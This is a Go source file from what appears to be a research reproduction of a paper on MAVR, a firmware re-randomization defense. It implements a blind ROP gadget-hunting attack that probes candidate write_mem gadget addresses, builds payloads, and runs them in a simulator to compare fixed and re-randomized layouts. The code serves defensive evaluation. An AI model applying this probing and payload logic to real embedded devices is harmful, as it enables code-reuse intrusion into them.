package attack

import "mavr/internal/gadget"

// This file implements the §VIII-A derandomization experiment as an
// end-to-end attack rather than an abstract model: an attacker who does
// NOT have the (randomized) binary probes candidate gadget addresses
// one crash at a time. Against a layout fixed at flash time, every
// probe durably eliminates one candidate — the information leak the
// paper cites as the reason a software-only deployment fails. Against
// MAVR, the failed probe itself triggers re-randomization, so the leak
// evaporates.

// HuntResult reports one gadget-hunting campaign.
type HuntResult struct {
	// Probes is the number of attack packets sent (each costing a crash
	// on a miss).
	Probes int
	// Found reports whether the write landed within the probe budget.
	Found bool
	// Addr is the discovered gadget word address when Found.
	Addr uint32
}

// assumedWriteMem builds the gadget description an attacker *assumes*
// at candidate address c: the common epilogue shape (three std Y+q
// stores at c, pop chain at c+3 reloading Y and the stored registers).
func assumedWriteMem(c uint32) *gadget.WriteMem {
	return &gadget.WriteMem{
		StoreAddr: c,
		PopsAddr:  c + 3,
		StoreRegs: [3]int{5, 6, 7},
		PopRegs:   []int{29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4},
	}
}

// AssumeWriteMem returns a copy of the analysis whose write_mem gadget
// is replaced with the shape a blind attacker assumes at candidate
// word address c (§VIII-A derandomization probing). Payloads built
// from the copy are the probes a gadget-hunting campaign fires.
func (a *Analysis) AssumeWriteMem(c uint32) *Analysis {
	trial := *a
	trial.WriteMem = assumedWriteMem(c)
	return &trial
}

// HuntFixedLayout probes candidates against a layout that never
// changes (the §VIII-A software-only deployment): each miss is
// eliminated forever, so the expected cost is half the candidate space.
func HuntFixedLayout(image []byte, geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
	return hunt(func() ([]byte, error) { return image, nil }, geom, candidates, GyroCfgWrite(marker))
}

// HuntRerandomized probes candidates against a victim that
// re-randomizes after every detected failure (MAVR): the layout each
// probe sees is freshly drawn, so eliminations don't accumulate.
// nextImage must return the victim's image for the next probe.
func HuntRerandomized(nextImage func() ([]byte, error), geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
	return hunt(nextImage, geom, candidates, GyroCfgWrite(marker))
}

// hunt is the probe loop of every campaign: for each candidate it
// boots the image next returns (the victim power-cycles after each
// crashed probe), fires a V1-grade probe built on the write_mem assumed
// at the candidate, and stops at the first probe whose write lands.
func hunt(next func() ([]byte, error), geom *Analysis, candidates []uint32, w Write) (HuntResult, error) {
	var res HuntResult
	var sim *Sim
	for _, c := range candidates {
		res.Probes++
		image, err := next()
		if err != nil {
			return res, err
		}
		payload, err := BuildV1(geom.AssumeWriteMem(c), w)
		if err != nil {
			return res, err
		}
		if sim == nil {
			if sim, err = NewSim(image); err != nil {
				return res, err
			}
		}
		if probePayload(sim, image, payload, w).landed {
			res.Found = true
			res.Addr = c
			return res, nil
		}
	}
	return res, nil
}
